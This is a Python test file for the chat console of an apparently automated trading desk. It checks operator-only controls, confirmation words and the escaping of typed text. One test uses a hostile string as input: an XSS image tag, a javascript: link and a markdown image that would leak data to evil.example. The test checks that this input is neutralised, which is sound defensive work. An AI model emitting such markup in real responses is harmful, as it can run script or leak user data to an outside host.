"""The chat of a desk that has decided nothing: it answers, refuses in its own words, and asks the page to confirm."""

from __future__ import annotations

import asyncio
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.console.chat import Chat
from ui.console.chat.said import bare, plain, table
from ui.server.access import Identity
from ui.server.house import House

ANN = Identity(name="ann", operates=False, session="s1", csrf="c")
OPERATOR = Identity(name="operator", operates=True, session="s2", csrf="c")


def answer(house: House, text: str, asks: Identity = OPERATOR) -> str:
    return list(Chat(house).answer(text, asks))[-1].text


def test_without_a_guard_it_says_so_and_names_no_equity(house: House) -> None:
    told = answer(house, "how are we doing?")
    assert "No guard answers" in told
    assert "USDT" not in told


def test_before_the_first_decision_there_is_nothing_to_explain(house: House) -> None:
    assert "Nothing has been decided yet" in answer(house, "why?")
    assert "none of its forecasts" in answer(house, "how did the news agent do")


@pytest.mark.parametrize(
    "text", ["/pause", "/kickoff", "/halt", "/long BTC", "/mode offline", "/tighten daily_loss 0.01"]
)
def test_who_may_only_look_is_refused_every_act(house: House, text: str) -> None:
    assert "needs an operator" in answer(house, text, ANN)
    assert house.window.paused() is None
    assert house.controls.kickoffs.run is None


def test_what_it_must_never_do_is_explained_and_not_done(house: House) -> None:
    assert "Not from here" in answer(house, "reset the breaker and go live")


def test_a_pause_is_made_and_lifted(house: House) -> None:
    assert "pauses" in answer(house, "/pause rate decision")
    held = house.window.paused()
    assert held is not None
    assert held.reason.startswith("rate decision")
    assert "may decide again" in answer(house, "go on")


def test_the_word_that_confirms_never_stands_in_the_chat(house: House) -> None:
    told = answer(house, "halt")
    words = list(house.access.confirmations._open)
    assert len(words) == 1
    assert words[0] not in told


def test_the_terms_of_a_trade_are_kept_with_its_word(house: House) -> None:
    answer(house, "/short eth 0.4")
    [word] = house.access.confirmations._open
    terms = house.access.confirmations.redeem("s2", "trade", word)
    assert terms == {"symbol": "ETHUSDT", "action": "OPEN_SHORT", "conviction": "0.4"}


def test_selling_is_asked_back_for_it_may_mean_to_close_or_to_go_short(house: House) -> None:
    assert "/close BTCUSDT, or /short BTCUSDT" in answer(house, "sell my BTC").replace("\\", "")
    assert not house.access.confirmations._open


def test_the_reason_that_was_given_reaches_the_dialog(house: House) -> None:
    async def asked() -> Any:
        with house.hub.listening(OPERATOR.session) as page:
            answer(house, "/halt the model is drunk")
            [event] = await page.next(1.0)
        return event["confirm"]["reason"]

    assert asyncio.run(asked()) == "the model is drunk"


def test_a_strangers_text_does_nothing_in_a_table() -> None:
    hostile = "<img src=x onerror=alert(1)> [click](javascript:x) | ![leak](https://evil.example/?d=1)"
    assert "<img" not in plain(hostile).replace("\\<", "")
    assert "\\!\\[" in plain(hostile)
    assert table(("a",), [(hostile,)]).count("\n") == 2


@given(st.text(max_size=200))
def test_what_was_typed_is_shown_as_it_was_typed_and_understood_as_it_was_meant(typed: str) -> None:
    shown = plain(typed)
    assert bare(shown) == " ".join(typed.split())
    assert not re.search(r"(?<!\\)[*`<\[!]", shown.replace("\\\\", ""))
